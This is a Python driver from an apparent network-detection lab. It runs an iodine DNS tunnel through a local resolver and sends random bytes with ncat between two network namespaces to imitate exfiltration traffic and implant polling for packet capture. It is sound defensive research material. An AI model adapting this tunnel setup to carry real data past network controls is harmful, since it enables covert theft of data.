"""One bounded DNS-tunnel session: iodine through the lab's resolver, data through the tunnel.

``python -m amlhp.lab.dnstunnel`` starts ``iodined`` (the attacker's name server) and the
``iodine`` client, which reaches it only through the lab's dnsmasq (the tunnel domain is
forwarded from the resolver address). What the capture on ``lo`` sees is what a network
sees of a DNS tunnel: long encoded query names and NULL/TXT answers, polling, fragments.

The tunnel's own interfaces never live in the machine's namespace: both tun devices are
moved at once into two network namespaces (``amlhp-lab-dnsc`` and ``amlhp-lab-dnss``), and
the data (``ncat`` sending pseudo-random bytes, as an exfiltration would) flows between
those namespaces only. The lab runner makes and removes the namespaces
(:func:`tunnel_network`, the scenario's ``network``), so that they go even when this driver
is killed; the driver stops both processes on SIGTERM, and the runner kills its process
group otherwise.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from typing import Any

from amlhp.lab.drivers import exit_on_sigterm, stop
from amlhp.lab.safety import check_argv, loopback_address

CLIENT_NS, SERVER_NS = "amlhp-lab-dnsc", "amlhp-lab-dnss"
CLIENT_DEV, SERVER_DEV = "amlhpdns1", "amlhpdns0"
#: the tunnel's inner network; it exists only inside the two namespaces above
SERVER_IP, CLIENT_IP, PREFIX = "10.77.0.1", "10.77.0.2", 27
DATA_PORT = 9000


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=10)


def _wait_device(name: str, proc: subprocess.Popen[bytes], timeout_s: float) -> None:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"{name}: its program exited with {proc.returncode}")
        if os.path.exists(f"/sys/class/net/{name}"):
            return
        time.sleep(0.1)
    raise TimeoutError(f"tun device {name} did not appear within {timeout_s:.0f}s")


def _move(dev: str, netns: str, address: str) -> None:
    """Move a tun device into ``netns`` and give it the tunnel address there."""
    _ip("link", "set", dev, "netns", netns)
    _ip("-n", netns, "addr", "add", f"{address}/{PREFIX}", "dev", dev)
    _ip("-n", netns, "link", "set", dev, "up", "mtu", "1130")
    _ip("-n", netns, "link", "set", "lo", "up")


@contextlib.contextmanager
def tunnel_network(topology: Any) -> Iterator[list[str]]:
    """The two namespaces the tunnel ends move into, for as long as the scenario runs.

    The lab runner enters this (a scenario's ``network``), not the driver: a driver that is
    killed (SIGKILL past its time limit) cannot remove them, the runner still does.
    Nothing extra is captured: the tunnel's DNS queries cross ``lo``.
    """
    del topology
    for ns in (CLIENT_NS, SERVER_NS):
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=10)
    try:
        for ns in (CLIENT_NS, SERVER_NS):
            _ip("netns", "add", ns)
        yield []
    finally:
        for ns in (CLIENT_NS, SERVER_NS):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=10)


def run(args: argparse.Namespace) -> int:
    resolver = loopback_address(args.resolver)
    server = loopback_address(args.server)
    deadline = time.monotonic() + args.seconds
    iodined_argv = [
        "iodined", "-f", "-c", "-P", args.password, "-d", SERVER_DEV, "-l", str(server),
        "-p", str(args.server_port), f"{SERVER_IP}", args.domain,
    ]  # fmt: skip
    iodine_argv = [
        "iodine", "-f", "-r", "-P", args.password, "-d", CLIENT_DEV, "-I", "1",
        str(resolver), args.domain,
    ]  # fmt: skip
    check_argv(iodine_argv)  # iodined's argv also names the inner address, never on lo
    for ns in (CLIENT_NS, SERVER_NS):
        if not os.path.exists(f"/var/run/netns/{ns}"):
            raise RuntimeError(f"namespace {ns} is missing: run this through `amlhp lab`")
    daemon = client = sink = None
    try:
        daemon = subprocess.Popen(iodined_argv, stdout=sys.stdout, stderr=sys.stderr)
        _wait_device(SERVER_DEV, daemon, 10)
        _move(SERVER_DEV, SERVER_NS, SERVER_IP)
        client = subprocess.Popen(iodine_argv, stdout=sys.stdout, stderr=sys.stderr)
        _wait_device(CLIENT_DEV, client, 20)
        _move(CLIENT_DEV, CLIENT_NS, CLIENT_IP)
        time.sleep(1.0)  # the client finishes its setup (codec and fragment probing)
        left = max(1.0, deadline - time.monotonic())
        sink = subprocess.Popen(
            ["ip", "netns", "exec", SERVER_NS, "timeout", f"{left:.0f}", "ncat", "-l",
             SERVER_IP, str(DATA_PORT)],
            stdout=subprocess.DEVNULL, stderr=sys.stderr,
        )  # fmt: skip
        time.sleep(0.5)
        data = os.urandom(args.bytes)
        send = subprocess.run(
            ["ip", "netns", "exec", CLIENT_NS, "timeout", f"{left:.0f}", "ncat",
             "--send-only", SERVER_IP, str(DATA_PORT)],
            input=data, capture_output=True, timeout=left + 5, check=False,
        )  # fmt: skip
        print(f"sent {args.bytes} bytes through the tunnel: exit {send.returncode}")
        while time.monotonic() < deadline and args.linger:
            time.sleep(0.5)  # idle polling of the tunnel, as a waiting implant does
        return 0 if send.returncode in (0, 124) else 1
    finally:
        for proc in (sink, client, daemon):
            stop(proc)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    p.add_argument("--resolver", required=True, help="the lab resolver iodine queries")
    p.add_argument("--server", required=True, help="address iodined listens on")
    p.add_argument("--server-port", type=int, default=5300)
    p.add_argument("--domain", required=True)
    p.add_argument("--password", required=True)
    p.add_argument("--bytes", type=int, default=50_000, help="data sent through the tunnel")
    p.add_argument("--seconds", type=float, default=30.0, help="whole session, at most")
    p.add_argument("--linger", action="store_true", help="keep polling until --seconds")
    args = p.parse_args(argv)
    exit_on_sigterm()
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
